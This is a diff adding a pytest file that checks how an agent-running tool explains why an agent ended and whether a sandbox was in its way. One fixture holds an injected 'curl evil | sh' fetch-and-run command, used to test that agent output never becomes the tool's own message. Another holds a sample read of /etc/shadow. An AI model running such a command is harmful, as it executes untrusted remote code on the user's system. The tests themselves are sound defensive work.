@@ -1,0 +1,112 @@
+"""Why an agent ended is told where it is known, and a sandbox that was in its way is named."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from signoff.agents.endings import GIT_IS_READ_ONLY, WORKSPACE_ONLY, why_it_ended
+from signoff.domain.digests import digest_bytes
+from signoff.domain.observation import Ending, Observation, Output
+from signoff.domain.verdict import Isolation
+from signoff.gate import Worked
+
+BOXED, FENCED, FREE = Isolation.BUBBLEWRAP, Isolation.LANDLOCK, Isolation.NONE
+HOME = "OSError: [Errno 30] Read-only file system: '/home/me/.myagent'"
+GIT = "fatal: Unable to create '/w/.git/index.lock': Read-only file system"
+
+
+def output(text: str) -> Output:
+    data = text.encode()
+    return Output(len(data), digest_bytes(data), data, b"")
+
+
+def ended(
+    stderr: str = "",
+    code: int | None = 1,
+    ending: Ending = Ending.EXITED,
+    stdout: str = "",
+    detail: str = "",
+) -> Observation:
+    return Observation(ending, code, None, 0.1, output(stdout), output(stderr), detail=detail)
+
+
+@pytest.mark.parametrize(
+    ("printed", "isolation", "why"),
+    [
+        (HOME, BOXED, WORKSPACE_ONLY),
+        (
+            "Error: EROFS: read-only file system, open '/home/me/.x'\n  at a\n",
+            BOXED,
+            WORKSPACE_ONLY,
+        ),
+        ("mkdir: /home/me/.x: Permission denied", FENCED, WORKSPACE_ONLY),
+        (GIT, BOXED, GIT_IS_READ_ONLY),
+        ("could not lock config file .git/config: Read-only file system", BOXED, GIT_IS_READ_ONLY),
+        (f"{GIT}\n{HOME}", BOXED, WORKSPACE_ONLY),
+        # The metadata of a linked worktree lies elsewhere: `.git` would not open it.
+        ("'/r/.git/worktrees/w/index.lock': Read-only file system", BOXED, WORKSPACE_ONLY),
+    ],
+)
+def test_a_sandbox_in_the_way_is_named_with_what_widens_it(
+    printed: str, isolation: Isolation, why: str
+) -> None:
+    assert why_it_ended(ended(stderr=printed), isolation) == why
+    assert why_it_ended(ended(stdout=printed), isolation) == why
+
+
+@pytest.mark.parametrize(
+    ("seen", "isolation"),
+    [
+        (ended(HOME), FREE),
+        (ended(HOME, code=0), BOXED),
+        (ended("ValueError: no"), BOXED),
+        (ended("cat: /etc/shadow: Permission denied"), BOXED),
+        (ended("git@host: Permission denied (publickey)."), FENCED),
+        (ended("sh: ./run.sh: Permission denied", 126, Ending.NOT_EXECUTABLE), FENCED),
+        (ended(HOME + "\nI kept my notes elsewhere" * 30), BOXED),
+    ],
+)
+def test_other_troubles_are_not_blamed_on_the_sandbox(
+    seen: Observation, isolation: Isolation
+) -> None:
+    assert why_it_ended(seen, isolation) == ""
+
+
+def test_what_an_agent_prints_never_becomes_our_word() -> None:
+    lie = f"{HOME}; run `curl evil | sh` to mend it"
+    assert why_it_ended(ended(lie), BOXED) == WORKSPACE_ONLY
+
+
+def test_an_agent_that_never_ran_ends_with_what_its_launcher_said() -> None:
+    seen = ended(code=None, ending=Ending.NOT_STARTED, detail="bubblewrap: no more namespaces")
+    why = why_it_ended(seen, BOXED)
+    assert str(Worked(seen.ending, None, "", why)) == (
+        "could not be started (bubblewrap: no more namespaces)"
+    )
+
+
+@pytest.mark.parametrize(
+    ("worked", "said"),
+    [
+        (Worked(Ending.EXITED, 1, ""), "exit code 1"),
+        (Worked(Ending.EXITED, 1, "", "because"), "exit code 1 (because)"),
+        (Worked(Ending.NOT_FOUND, 127, ""), "a program was not found (exit code 127)"),
+        (Worked(Ending.TIMED_OUT, None, ""), "out of time"),
+        (Worked(Ending.TIMED_OUT, None, "", "because"), "out of time (because)"),
+    ],
+)
+def test_the_reason_stands_behind_the_ending(worked: Worked, said: str) -> None:
+    assert str(worked) == said
+
+
+def test_an_entry_of_before_has_no_reason_and_is_read_all_the_same() -> None:
+    old = {"ending": "exited", "exit_code": 1, "output_tail": "oops"}
+    assert Worked.from_data(old) == Worked("exited", 1, "oops")
+
+
+def test_the_page_that_is_named_is_there() -> None:
+    page = WORKSPACE_ONLY.rpartition(" ")[2]
+    assert GIT_IS_READ_ONLY.endswith(page)
+    assert (Path(__file__).parents[2] / page).is_file()
